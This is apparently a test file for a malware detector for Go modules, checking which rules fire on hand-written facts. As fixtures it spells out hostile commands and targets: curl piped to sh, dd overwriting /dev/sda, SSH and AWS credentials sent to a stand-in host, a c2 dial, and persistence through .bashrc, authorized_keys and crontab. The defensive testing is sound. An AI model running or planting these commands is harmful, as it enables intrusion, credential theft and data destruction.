// Each rule on facts written by hand: what fires, and the near miss beside it. Over 400 lines: it has a test for each of the first rules.
import assert from 'node:assert/strict'
import test from 'node:test'
import { factsOf, hidden, reached, source, type GivenEffect } from '../../../test/support/facts.ts'
import type { Gate, Reach } from '../../gosource/facts.ts'
import { judgeFacts, type Judgement } from './judge.ts'

const init = [reached('init')]
const open = [reached('exported', 'Open')]
const FAR = 'https://collect.example.com/r'

const judge = (...effects: readonly GivenEffect[]): Judgement => judgeFacts(factsOf(effects))

/** The findings but for what is context, as `RULE severity line`. */
function said(...effects: readonly GivenEffect[]): string[] {
  return judge(...effects)
    .findings.filter(({ severity }) => severity !== 'info')
    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`)
}

const run = (line: number, words: readonly string[], more: Partial<GivenEffect> = {}): GivenEffect => ({
  kind: 'process',
  call: 'os/exec.Command',
  line,
  given: words.map((word, i) => [i === 0 ? 'command' : 'argument', word] as const),
  ...more,
})

const get = (line: number, url: string, more: Partial<GivenEffect> = {}): GivenEffect => ({
  kind: 'connect',
  call: 'net/http.Get',
  line,
  given: [['url', url]],
  ...more,
})

test('MW-INIT-EXEC: what an import starts, and how grave it is', () => {
  assert.deepEqual(said(run(5, ['/opt/x'], { reach: init })), ['MW-INIT-EXEC high 5'])
  assert.deepEqual(said(run(5, ['git', 'describe'], { reach: init })), ['MW-INIT-EXEC low 5'])
  assert.deepEqual(said(run(5, ['brew', '--prefix', 'nss'], { reach: init })), ['MW-INIT-EXEC low 5'])
  assert.deepEqual(said(run(5, ['cmd', '/c', 'ver'], { reach: init })), ['MW-INIT-EXEC low 5'])
  assert.deepEqual(said(run(5, ['/sbin/initctl', '--version'], { reach: init })), ['MW-INIT-EXEC low 5'])
  assert.deepEqual(said(run(5, ['./x', '--version'], { reach: init })), ['MW-INIT-EXEC high 5'])
  assert.deepEqual(said(run(5, ['/tmp/x', '--version'], { reach: init })), ['MW-INIT-EXEC high 5'])
  assert.deepEqual(said(run(5, ['brew', 'install', 'nss'], { reach: init })), ['MW-INIT-EXEC high 5'])
  assert.deepEqual(said(run(5, ['/opt/x'], { reach: open })), [])
  // What is handed to another function may be called at once, by Once.Do, or be kept, by a registry.
  const handed = [{ ...reached('init'), path: [{ file: 'a.go', line: 1, what: 'init hands on func in init' }] }]
  assert.deepEqual(said(run(5, ['/opt/x'], { reach: handed })), ['MW-INIT-EXEC medium 5'])
  const command = {
    values: [hidden('/opt/agent --daemon https://x.example.com/', 'encoding/hex.DecodeString', ['2f6f'])],
  }
  assert.deepEqual(
    said(run(5, [], { given: [['command', command]], reach: [reached('var', 'x')] }))[0],
    'MW-INIT-EXEC critical 5',
  )
})

test('judgeFacts: what a build says is nothing about the machine, and an address is no path to another effect', () => {
  const arch = get(5, FAR, {
    given: [
      ['data', { sources: [source('host-info', 4, 'runtime.GOARCH')] }],
      ['url', FAR],
    ],
    reach: init,
  })
  assert.deepEqual(said(arch), ['MW-INIT-NET high 5'])
  const host = get(5, FAR, {
    given: [
      ['data', { sources: [source('host-info', 4, 'os.Hostname')] }],
      ['url', FAR],
    ],
    reach: init,
  })
  assert.deepEqual(said(host).includes('MW-INIT-NET critical 5'), true)
  const call = get(5, FAR, { given: [['url', { values: [hidden(FAR, '+', [FAR])], roots: ['a.go:7'] }]], reach: init })
  assert.deepEqual(judge(call).findings[0]?.path, ['site a.go:5:net/http.Get', 'place a.go:5'])
})

test('judgeFacts: data that comes through four packages is told one level milder, unless an import sends it', () => {
  const through = (...folders: readonly string[]): ReturnType<typeof source> =>
    source(
      'file',
      7,
      'os.ReadFile',
      ['…/.ssh/id_rsa'],
      folders.map((folder) => ({ file: `${folder}/x.go`, line: 3, what: 'Get gives it' })),
    )
  const post = (one: ReturnType<typeof source>, reach = open): GivenEffect =>
    get(8, FAR, {
      call: 'net/http.Post',
      given: [
        ['url', FAR],
        ['data', { sources: [one] }],
      ],
      reach,
    })
  assert.deepEqual(said(post(through('a', 'b'))), ['MW-EXFIL-CRED critical 8'])
  assert.deepEqual(said(post(through('a', 'b', 'c'))), ['MW-EXFIL-CRED high 8'])
  assert.ok(said(post(through('a', 'b', 'c'), init)).includes('MW-EXFIL-CRED critical 8'))
})

test('MW-PIPE-SH: a command line that does harm, wherever it is reached from, with its text', () => {
  const { verdict, findings } = judge(run(9, ['sh', '-c', 'curl -s https://x.example.com/i | sh'], { reach: open }))
  assert.equal(verdict, 'malicious')
  const [first] = findings
  assert.equal(first?.rule, 'MW-PIPE-SH')
  assert.equal(first.severity, 'critical')
  assert.equal(first.trigger, 'exported')
  assert.ok(first.folded.includes('curl -s https://x.example.com/i | sh'))
  assert.deepEqual(
    first.trace.map(({ what }) => what),
    ['Open calls work', 'os/exec.Command'],
  )
  assert.deepEqual(said(run(9, ['sh', '-c', 'az account get-access-token -o json --resource …'], { reach: open })), [])
})

test('MW-PIPE-SH: a script on standard input, in a file that an import writes, and in an interpreter', () => {
  const script = '#!/bin/sh\ncurl -s https://x.example.com/i | sh\n'
  const stdin = run(9, [], {
    given: [
      ['command', '/bin/sh'],
      ['stdin', script],
    ],
    reach: open,
  })
  assert.deepEqual(said(stdin), ['MW-PIPE-SH critical 9'])
  const file: GivenEffect = {
    kind: 'file-write',
    call: 'os.WriteFile',
    line: 4,
    given: [
      ['path', '/opt/i.sh'],
      ['data', script],
    ],
  }
  assert.deepEqual(said({ ...file, reach: init }), ['MW-PIPE-SH critical 4', 'MW-INIT-FS medium 4'])
  assert.deepEqual(said({ ...file, reach: open }), ['MW-PIPE-SH high 4'])
  const page: GivenEffect['given'] = [
    ['path', '…/README.md'],
    ['data', script],
  ]
  assert.deepEqual(said({ ...file, given: page, reach: open }), [])
})

test('MW-DL-EXEC: an answer that a shell gets', () => {
  const answer = source('network', 4, 'net/http.Get')
  const shell: GivenEffect = run(6, [], {
    given: [
      ['command', 'sh'],
      ['argument', '-c'],
      ['argument', { sources: [answer] }],
    ],
    reach: open,
  })
  const { findings } = judge(get(4, FAR, { reach: open }), shell)
  const [first] = findings
  assert.deepEqual([first?.rule, first?.severity, first?.line, first?.folded], ['MW-DL-EXEC', 'critical', 6, [FAR]])
  // The caller's address, and an answer that is only an argument of a program with a name.
  const chosen = get(4, '…', { given: [['url', { sources: [source('argument', 1, 'Open url')] }]], reach: open })
  assert.deepEqual(said(chosen, shell), [])
  const named = run(6, [], {
    given: [
      ['command', 'git'],
      ['argument', 'checkout'],
      ['argument', { sources: [answer] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(get(4, FAR, { reach: open }), named), [])
})

test('MW-DL-EXEC: what a tool of the developers fetches for themselves is medium, what users start is critical', () => {
  const by = (file: string): Reach[] => [
    { trigger: 'main', name: 'main', background: false, path: [{ file, line: 3, what: 'main calls work' }] },
  ]
  const severity = (file: string): string[] => {
    const reach = by(file)
    const start: GivenEffect = {
      kind: 'process',
      call: 'os/exec.Command',
      line: 9,
      reach,
      given: [
        ['command', 'sh'],
        ['stdin', { sources: [source('network', 4, 'net/http.Get', [FAR])] }],
      ],
    }
    return said(get(4, FAR, { reach }), start)
  }
  assert.deepEqual(severity('internal/build/build.go'), ['MW-DL-EXEC medium 9'])
  assert.deepEqual(severity('cmd/shop/main.go'), ['MW-DL-EXEC critical 9'])
  // Nothing is seen to start it: in the folder of such a program it is the program's, elsewhere it is a library's.
  const unseen = run(9, ['sh'], {
    file: 'internal/build/more.go',
    given: [
      ['command', 'sh'],
      ['stdin', { sources: [source('network', 4, 'net/http.Get', [FAR])] }],
    ],
  })
  const main: GivenEffect = { kind: 'file-write', call: 'os.Create', line: 2, reach: by('internal/build/build.go') }
  const fetch = get(4, FAR, { file: 'internal/build/more.go' })
  assert.ok(said(fetch, unseen, main).includes('MW-DL-EXEC low 9'))
  assert.ok(said(fetch, unseen).includes('MW-DL-EXEC high 9'))
})

test('MW-DL-EXEC: a file that is downloaded and started, by path or by what made it', () => {
  const write: GivenEffect = {
    kind: 'file-write',
    call: 'os.WriteFile',
    line: 7,
    given: [
      ['path', '/var/x/.t'],
      ['data', { sources: [source('network', 4, 'net/http.Get')] }],
    ],
    reach: open,
  }
  const start = run(9, ['/var/x/.t'], { reach: open })
  assert.deepEqual(said(get(4, FAR, { reach: open }), write, start), ['MW-DL-EXEC critical 9'])
  assert.deepEqual(said(get(4, FAR, { reach: open }), write, run(9, ['/usr/bin/true'], { reach: open })), [])
  const named: GivenEffect = {
    ...write,
    given: [
      ['path', { roots: ['f'] }],
      ['data', { sources: [source('network', 4, 'net/http.Get')] }],
    ],
  }
  const byRoot = run(9, [], { given: [['command', { roots: ['f'] }]], reach: open })
  assert.deepEqual(said(get(4, FAR, { reach: open }), named, byRoot), ['MW-DL-EXEC critical 9'])
  const asked = [reached('exported', 'Install')]
  assert.deepEqual(said(get(4, FAR, { reach: asked }), { ...write, reach: asked }, { ...start, reach: asked }), [
    'MW-DL-EXEC medium 9',
  ])
  const check: Gate = { kind: 'input', file: 'a.go', line: 8, text: 'sha256.Sum256(data) != want' }
  const checked = { ...start, gates: [check] }
  assert.deepEqual(said(get(4, FAR, { reach: asked }), { ...write, reach: asked }, { ...checked, reach: asked }), [
    'MW-DL-EXEC low 9',
  ])
  // Nobody asked for it: a hash that the module brings along proves nothing to the caller.
  assert.ok(said(get(4, FAR, { reach: open }), write, checked).includes('MW-DL-EXEC high 9'))
  const background = [reached('exported', 'Install', true)]
  assert.deepEqual(said(get(4, FAR, { reach: asked }), { ...write, reach: asked }, { ...start, reach: background }), [
    'MW-DL-EXEC critical 9',
  ])
})

test('MW-DL-EXEC: a pointer to a pointer shows the first address', () => {
  const where = source('network', 4, 'net/http.Client.Do')
  const effects = [
    get(4, FAR, { reach: open }),
    get(4, '…', { given: [['url', { sources: [where] }]], reach: open }),
    run(9, [], {
      given: [
        ['command', 'bash'],
        ['argument', '-c'],
        ['argument', { sources: [where] }],
      ],
      reach: open,
    }),
  ]
  const [first] = judge(...effects).findings
  assert.deepEqual([first?.rule, first?.folded], ['MW-DL-EXEC', [FAR]])
})

test('MW-REVSHELL: a connection whose lines are run, or that is the input and output of a program', () => {
  const dial: GivenEffect = {
    kind: 'connect',
    call: 'net.Dial',
    line: 4,
    given: [
      ['network', 'tcp'],
      ['host', 'c2.example.com:443'],
    ],
    object: ['conn'],
    reach: open,
  }
  const lines = run(6, [], { given: [['command', { sources: [source('network', 4, 'net.Dial')] }]], reach: open })
  assert.deepEqual(said(dial, lines), ['MW-REVSHELL critical 6'])
  const streams = run(6, [], {
    given: [
      ['command', 'sh'],
      ['stdin', { roots: ['conn'] }],
      ['output', { roots: ['conn'] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(dial, streams), ['MW-REVSHELL critical 6'])
  // A terminal's server gives a program the connection that its caller passes.
  const server = run(6, [], {
    given: [
      ['command', 'sh'],
      ['stdin', { sources: [source('argument', 1, 'Serve conn')], roots: ['c'] }],
      ['output', { roots: ['c'] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(server), [])
})

test('MW-BACKDOOR: a listener of the module whose visitors command, and not one that a caller asks for', () => {
  const listen = (reach: GivenEffect['reach'], host: GivenEffect['given']): GivenEffect => ({
    kind: 'listen',
    call: 'net.Listen',
    line: 2,
    given: host ?? [],
    reach: reach ?? [],
  })
  const visitor = run(6, [], {
    given: [['command', { sources: [source('network', 4, 'net.Listener.Accept')] }]],
    reach: init,
  })
  assert.ok(said(listen(init, [['host', '0.0.0.0:4444']]), visitor).includes('MW-BACKDOOR critical 6'))
  const asked = [reached('exported', 'ListenAndServe')]
  assert.deepEqual(
    said(listen(asked, [['host', { sources: [source('argument', 1, 'addr')] }]]), { ...visitor, reach: asked }),
    [],
  )
})

test('MW-OBF-CRYPT: decrypted bytes that are run, and not those of a caller', () => {
  const plain = [
    source('decrypted', 5, 'crypto/cipher.Stream.XORKeyStream'),
    source('embed', 2, 'assets', ['assets/x']),
  ]
  const write: GivenEffect = {
    kind: 'file-write',
    call: 'os.WriteFile',
    line: 7,
    given: [
      ['path', '/var/x/main.go'],
      ['data', { sources: plain }],
    ],
    reach: open,
  }
  assert.deepEqual(said(write, run(9, ['go', 'run', '/var/x/main.go'], { reach: open })), ['MW-OBF-CRYPT critical 9'])
  const own: GivenEffect = {
    ...write,
    given: [
      ['path', '/var/x/main.go'],
      ['data', { sources: [plain[0] ?? source('decrypted', 5, ''), source('argument', 1, 'Open data')] }],
    ],
  }
  assert.deepEqual(said(own, run(9, ['go', 'run', '/var/x/main.go'], { reach: open })), [])
})

test('MW-MEMORY and MW-PLUGIN: code that is loaded from outside', () => {
  const memory: GivenEffect = {
    kind: 'memory',
    call: 'syscall.Mmap',
    line: 3,
    given: [['data', { sources: [source('network', 2, 'net/http.Get')] }]],
    reach: open,
  }
  assert.deepEqual(said(memory), ['MW-MEMORY critical 3'])
  assert.deepEqual(said({ ...memory, given: [] }), [])
  const load: GivenEffect = { kind: 'load', call: 'plugin.Open', line: 3, given: [['path', '/tmp/.x.so']], reach: open }
  assert.deepEqual(said(load), ['MW-PLUGIN high 3'])
  assert.deepEqual(said({ ...load, given: [['path', 'kernel32.dll']] }), [])
})

test('MW-INIT-NET: what an import connects to', () => {
  assert.deepEqual(said(get(3, FAR, { reach: init })), ['MW-INIT-NET high 3'])
  assert.deepEqual(said(get(3, 'http://127.0.0.1:9/', { reach: init })), [])
  assert.deepEqual(said(get(3, FAR, { reach: open })), [])
  const configured = get(3, '…', {
    given: [['url', { sources: [source('env', 2, 'os.Getenv', ['X_URL'])] }]],
    reach: init,
  })
  assert.deepEqual(said(configured), ['MW-INIT-NET medium 3'])
  const secret = get(3, '', {
    given: [['url', { values: [hidden(FAR, 'encoding/base64.Encoding.DecodeString', ['aHR0'])] }]],
    reach: init,
  })
  assert.deepEqual(said(secret), ['MW-INIT-NET critical 3', 'MW-OBF-B64 high 3'])
})

test('MW-HOST-IP: public addresses without a name', () => {
  const { verdict, findings } = judge(get(3, 'https://203.0.113.9/x', { reach: open }))
  assert.equal(verdict, 'suspicious')
  assert.deepEqual(
    findings.map(({ rule, folded }) => [rule, folded]),
    [['MW-HOST-IP', ['https://203.0.113.9/x']]],
  )
  assert.deepEqual(said(get(3, 'https://192.168.0.9/x', { reach: open })), [])
  const udp: GivenEffect = {
    kind: 'connect',
    call: 'net.Dial',
    line: 3,
    given: [
      ['network', 'udp'],
      ['host', '198.51.100.1:80'],
    ],
    object: ['c'],
    reach: open,
  }
  assert.deepEqual(said(udp), [])
  assert.deepEqual(
    said({
      ...udp,
      given: [
        ['network', 'tcp'],
        ['host', '198.51.100.1:80'],
      ],
    }),
    ['MW-HOST-IP high 3'],
  )
})

test('MW-HOST-DROP: fixed credentials and services for everybody, not tokens of a caller', () => {
  const post = (url: string): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Post',
    line: 3,
    given: [
      ['url', url],
      ['data', { sources: [source('argument', 1, 'Open what')] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(post('https://chat.example.com/api/webhooks/000000000000000000/AAAA-BBBB')), [
    'MW-HOST-DROP high 3',
  ])
  assert.deepEqual(said(post('https://chat.example.com/api/webhooks/…/…')), [])
  assert.deepEqual(said(post('https://x.ngrok-free.app/c')), ['MW-HOST-DROP high 3'])
  assert.deepEqual(said(post(FAR)), [])
  const raw = 'https://raw.githubusercontent.com/a/b/main/c'
  assert.deepEqual(said(get(3, raw, { reach: open }), get(4, raw, { reach: open })), [
    'MW-HOST-DROP medium 3',
    'MW-HOST-DROP low 4',
  ])
  assert.deepEqual(said(get(3, raw, { reach: [reached('main')] })), ['MW-HOST-DROP low 3'])
})

test('MW-EXFIL-ENV: the environment, and keys of others', () => {
  const post = (data: GivenEffect['given'], url: string = FAR): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Post',
    line: 8,
    given: [['url', url], ...(data ?? [])],
    reach: open,
  })
  const all = source('environ', 7, 'os.Environ')
  assert.deepEqual(said(post([['data', { sources: [all] }]])), ['MW-EXFIL-ENV critical 8'])
  const dsn: GivenEffect = {
    ...post([]),
    given: [
      ['url', { sources: [source('argument', 1, 'New dsn')] }],
      ['data', { sources: [all] }],
    ],
  }
  assert.deepEqual(said(dsn), [])
  const keys = source('env', 7, 'os.Getenv', ['AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'])
  const [first] = judge(post([['data', { sources: [keys] }]])).findings
  assert.equal(first?.severity, 'critical')
  assert.ok(first.folded.includes('AWS_SECRET_ACCESS_KEY'))
  const own = source('env', 7, 'os.Getenv', ['ACME_API_KEY'])
  assert.deepEqual(said(post([['header', { sources: [own] }]], 'https://api.acme.example.com/v1')), [])
  assert.deepEqual(said(post([['data', { sources: [source('env', 7, 'os.Getenv', ['LANG'])] }]])), [])
})

test('MW-EXFIL-CRED: files with secrets, unless they go to whom they belong', () => {
  const post = (path: string, url: string): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Post',
    line: 8,
    given: [
      ['url', url],
      ['data', { sources: [source('file', 7, 'os.ReadFile', [path])] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(post('…/.ssh/id_rsa', FAR)), ['MW-EXFIL-CRED critical 8'])
  assert.deepEqual(said(post('…/.aws/credentials', 'https://sts.amazonaws.com/')), [])
  assert.deepEqual(said(post('…/.docker/config.json', 'https://hub.docker.com/v2/')), [])
  // Another host whose name begins or ends so is somebody else's.
  for (const host of ['amazonaws.com.example.org', 'notamazonaws.com'])
    assert.deepEqual(said(post('…/.aws/credentials', `https://${host}/`)).length > 0, true, host)
  assert.deepEqual(said(post('…/report.json', FAR)), [])
})

test('MW-EXFIL-ARG: a typed password, and what is encrypted on the way', () => {
  const post = (one: ReturnType<typeof source>): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Post',
    line: 8,
    given: [
      ['url', FAR],
      ['data', { sources: [one] }],
    ],
    reach: open,
  })
  assert.deepEqual(said(post(source('secret-input', 7, 'golang.org/x/term.ReadPassword'))), ['MW-EXFIL-ARG high 8'])
  const cipher = { file: 'a.go', line: 6, what: 'crypto/cipher.Stream.XORKeyStream' }
  assert.deepEqual(said(post(source('argument', 1, 'Valid id', [], [cipher]))), ['MW-EXFIL-ARG high 8'])
  assert.deepEqual(said(post(source('argument', 1, 'Send text'))), [])
})

test('two high findings of different kinds on one call make a module malicious', () => {
  const token = 'Bearer 0000000000falsetoken0000000000'
  const given: GivenEffect['given'] = [
    ['url', FAR],
    ['header', token],
    ['data', { sources: [source('argument', 1, 'Valid id')] }],
  ]
  const one: GivenEffect = { kind: 'connect', call: 'net/http.Client.Do', line: 8, given, reach: open }
  assert.equal(judge(one).verdict, 'malicious')
  assert.deepEqual(said(one), ['MW-EXFIL-ARG high 8', 'MW-HOST-DROP high 8'])
  const apart = [
    get(3, 'https://203.0.113.9/x', { reach: open }),
    {
      ...get(9, FAR, { reach: open }),
      given: [
        ['url', 'https://x.example.com/'],
        ['data', { sources: [source('secret-input', 7, 'x')] }],
      ] as const,
    },
  ]
  assert.equal(judge(...apart).verdict, 'suspicious')
})

test('MW-EXFIL-HOST: what an import says about the machine', () => {
  const post: GivenEffect = {
    kind: 'connect',
    call: 'net/http.Post',
    line: 8,
    given: [
      ['url', FAR],
      ['data', { sources: [source('host-info', 7, 'os.Hostname')] }],
    ],
  }
  assert.deepEqual(said({ ...post, reach: init }), ['MW-INIT-NET critical 8', 'MW-EXFIL-HOST high 8'])
  assert.deepEqual(said({ ...post, reach: open }), [])
})

test('MW-PERSIST: start files of an import, and not what a caller installs', () => {
  const write = (path: string, more: Partial<GivenEffect>): GivenEffect => ({
    kind: 'file-write',
    call: 'os.WriteFile',
    line: 5,
    given: [
      ['path', path],
      ['data', 'x\n'],
    ],
    ...more,
  })
  assert.deepEqual(said(write('…/.bashrc', { reach: init })), ['MW-PERSIST critical 5', 'MW-INIT-FS medium 5'])
  assert.deepEqual(said(write('…/.bashrc', { reach: open })), ['MW-PERSIST high 5'])
  assert.deepEqual(said(write('…/.ssh/authorized_keys', { reach: open })), ['MW-PERSIST critical 5'])
  const caller: GivenEffect['given'] = [
    ['path', { values: ['/etc/systemd/system/….service'], sources: [source('argument', 1, 'Install name')] }],
    ['data', {}],
  ]
  assert.deepEqual(said(write('', { given: caller, reach: [reached('exported', 'Install')] })), ['MW-PERSIST low 5'])
  assert.deepEqual(said(write('/var/lib/x/db', { reach: open })), [])
  const job = run(5, [], {
    given: [
      ['command', 'crontab'],
      ['argument', '-'],
      ['stdin', '@daily /opt/x'],
    ],
    reach: init,
  })
  assert.deepEqual(said(job), ['MW-INIT-EXEC critical 5', 'MW-PERSIST critical 5'])
})

test('MW-PERSIST is told where data is written, not where the file is opened', () => {
  const path = ['path', '…/.ssh/authorized_keys'] as const
  const opened: GivenEffect = {
    kind: 'file-write',
    call: 'os.OpenFile',
    line: 4,
    given: [path],
    object: ['f'],
    reach: init,
  }
  const written: GivenEffect = {
    kind: 'file-write',
    call: 'io.WriteString',
    line: 9,
    given: [path, ['data', 'key']],
    object: ['f'],
    reach: init,
  }
  assert.deepEqual(said(opened, written), ['MW-PERSIST critical 9', 'MW-INIT-FS medium 4', 'MW-INIT-FS low 9'])
})

test("MW-CI-POISON: trust of workflows and of Go, and not a helper's own values", () => {
  const env = { values: ['…'], sources: [source('env', 3, 'os.Getenv', ['GITHUB_ENV'])] }
  const write = (data: GivenEffect['given'], more: Partial<GivenEffect> = {}): GivenEffect => ({
    kind: 'file-write',
    call: 'os.File.WriteString',
    line: 5,
    given: [['path', env], ...(data ?? [])],
    reach: open,
    ...more,
  })
  assert.deepEqual(said(write([['data', 'GOSUMDB=off\nGOPROXY=https://x.example.com\n']])), ['MW-CI-POISON critical 5'])
  assert.deepEqual(said(write([['data', { values: ['…=…'], sources: [source('argument', 1, 'SetEnv key')] }]])), [])
  const sums: GivenEffect = { kind: 'file-write', call: 'os.WriteFile', line: 5, given: [['path', '/src/go.sum']] }
  assert.deepEqual(said({ ...sums, reach: init }), ['MW-CI-POISON critical 5', 'MW-INIT-FS medium 5'])
  assert.deepEqual(said({ ...sums, reach: open }), [])
  const tool: GivenEffect = {
    kind: 'file-write',
    call: 'os.WriteFile',
    line: 5,
    given: [
      ['path', '/ci/bin/go'],
      ['mode', '493'],
    ],
    reach: init,
  }
  assert.deepEqual(said(tool), ['MW-CI-POISON critical 5', 'MW-INIT-FS medium 5'])
  assert.deepEqual(
    said({
      ...tool,
      given: [
        ['path', '/ci/bin/go'],
        ['mode', '420'],
      ],
    }),
    ['MW-INIT-FS medium 5'],
  )
  const set: GivenEffect = {
    kind: 'setenv',
    call: 'os.Setenv',
    line: 5,
    given: [
      ['name', 'GOSUMDB'],
      ['value', 'off'],
    ],
    reach: init,
  }
  assert.deepEqual(said(set), ['MW-CI-POISON critical 5'])
  assert.deepEqual(
    said({
      ...set,
      given: [
        ['name', 'LIB_ONCE'],
        ['value', '1'],
      ],
    }),
    [],
  )
})

test('MW-DESTROY: disks and whole trees', () => {
  const write: GivenEffect = {
    kind: 'file-write',
    call: 'os.OpenFile',
    line: 5,
    given: [['path', '/dev/sda']],
    reach: open,
  }
  assert.deepEqual(said(write), ['MW-DESTROY critical 5'])
  const remove: GivenEffect = {
    kind: 'file-remove',
    call: 'os.RemoveAll',
    line: 5,
    given: [['path', '/home']],
    reach: open,
  }
  assert.deepEqual(said(remove), ['MW-DESTROY critical 5'])
  assert.deepEqual(said({ ...remove, given: [['path', '/home/a/.cache/lib']] }), [])
})

test('MW-OBF rules: told where the value appears, and how', () => {
  const dial = (value: ReturnType<typeof hidden>): GivenEffect => ({
    kind: 'connect',
    call: 'net.Dial',
    line: 9,
    given: [['host', { values: [value] }]],
    reach: open,
  })
  const at = (value: ReturnType<typeof hidden>): string[] => said(dial(value)).filter((text) => text.includes('OBF'))
  assert.deepEqual(at(hidden('203.0.113.84:20022', 'strings.ReplaceAll', ['5', '.', '26035'])), ['MW-OBF-REPL high 3'])
  assert.deepEqual(at(hidden('https://x.example.com/', 'index', [])), ['MW-OBF-INDEX critical 3'])
  assert.deepEqual(at(hidden('https://x.example.com/', 'numbers', [])), ['MW-OBF-CHARS high 3'])
  assert.deepEqual(at(hidden('https://x.example.com/', 'xor', ['key'])), ['MW-OBF-B64 high 3'])
  // What stands in the source in any letters, what is joined of parts that do, and what tells nothing.
  assert.deepEqual(
    at(hidden('https://x.example.com/v2', 'strings.ReplaceAll', ['https://X.example.com/{v}', '{v}', 'v2'])),
    [],
  )
  assert.deepEqual(at(hidden('https://x.example.com/v2', 'fmt.Sprintf', ['https://x.example.com/v%d'])), [])
  assert.deepEqual(at(hidden('abcdefgh', 'xor', [])), [])
})

test('MW-GATE: what guards a grave finding, and nothing else', () => {
  const os: Gate = { kind: 'os', file: 'a.go', line: 2, text: 'runtime.GOOS == "linux"' }
  const harm = run(5, ['sh', '-c', 'dd if=/dev/zero of=/dev/sda'], { reach: open, gates: [os] })
  assert.deepEqual(said(harm), ['MW-PIPE-SH critical 5', 'MW-GATE high 2'])
  assert.deepEqual(said(run(5, ['uname'], { reach: open, gates: [os] })), [])
  // A guard by the system alone raises nothing; one that comes back after every panic does.
  assert.equal(judge(get(3, 'https://203.0.113.9/', { reach: open, gates: [os] })).verdict, 'suspicious')
  const swallow: Gate = { kind: 'recover', file: 'a.go', line: 2, text: 'recover()' }
  const sleep: Gate = { kind: 'sleep', file: 'a.go', line: 3, text: 'time.Sleep(30 * time.Second)' }
  assert.equal(judge(get(3, 'https://203.0.113.9/', { reach: open, gates: [swallow] })).verdict, 'suspicious')
  assert.equal(judge(get(3, 'https://203.0.113.9/', { reach: open, gates: [swallow, sleep] })).verdict, 'malicious')
})

test('MW-TEST: what is critical elsewhere is high in a test, the rest low', () => {
  const harm = run(5, ['sh', '-c', 'curl https://x.example.com/i | sh'], { reach: [reached('test', 'TestX')] })
  assert.deepEqual(said(harm), ['MW-PIPE-SH high 5', 'MW-TEST high 5'])
  assert.equal(judge(harm).verdict, 'suspicious')
  assert.deepEqual(said(get(3, 'https://203.0.113.9/', { reach: [reached('test', 'TestX')] })), [])
})

test('MW-WRAP: as grave as what it is a part of, else context', () => {
  const call = 'github.com/go-resty/resty/v2.Request.Get'
  const fetch = get(4, FAR, {
    call,
    given: [
      ['url', FAR],
      ['path', '/var/x/h'],
    ],
    reach: open,
  })
  assert.deepEqual(said(fetch, run(6, ['/var/x/h'], { reach: open })), ['MW-WRAP critical 4', 'MW-DL-EXEC critical 6'])
  const { verdict, findings } = judge({ ...fetch, given: [['url', FAR]] })
  assert.deepEqual([verdict, findings.map(({ rule, severity }) => `${rule} ${severity}`)], ['clean', ['MW-WRAP info']])
})

test('MW-SHELL and MW-INIT-ENV are context, and the verdict stays clean', () => {
  const shell = judge(run(5, ['sh', '-c', 'uname -a'], { reach: open }))
  assert.deepEqual(
    [shell.verdict, shell.findings.map(({ rule, severity }) => `${rule} ${severity}`)],
    ['clean', ['MW-SHELL info']],
  )
  const env: GivenEffect = {
    kind: 'connect',
    call: 'net.Dial',
    line: 2,
    given: [['host', { values: ['127.0.0.1:6379'], sources: [source('env', 1, 'os.Getenv', ['KV_ADDR'])] }]],
    reach: init,
  }
  assert.deepEqual(
    judge(env).findings.map(({ rule, severity }) => `${rule} ${severity}`),
    ['MW-INIT-ENV info'],
  )
})

test('what nothing reaches is one level milder, and told so', () => {
  const [first] = judge(run(5, ['sh', '-c', 'curl https://x.example.com/i | sh'])).findings
  assert.deepEqual([first?.severity, first?.message.endsWith('(no caller is seen)')], ['high', true])
})

test('one finding a rule and a place: contexts are joined, the gravest is kept with the values of all', () => {
  const a = get(3, 'https://203.0.113.9/a', { reach: [reached('test', 'T')] })
  const b = get(3, 'https://203.0.113.9/b', { reach: open })
  const c = get(3, 'https://203.0.113.9/c', { reach: open })
  const { findings } = judge(a, b, c)
  assert.deepEqual(
    findings.map(({ rule, folded }) => [rule, folded]),
    [['MW-HOST-IP', ['https://203.0.113.9/b', 'https://203.0.113.9/c']]],
  )
})

test('judgeFacts says incomplete for a grave gap, whatever was found', () => {
  const facts = { ...factsOf([]), gaps: [{ file: 'a.go', line: 1, why: 'too deep', grave: true }] }
  assert.deepEqual(judgeFacts(facts), { verdict: 'clean', incomplete: true, findings: [] })
})
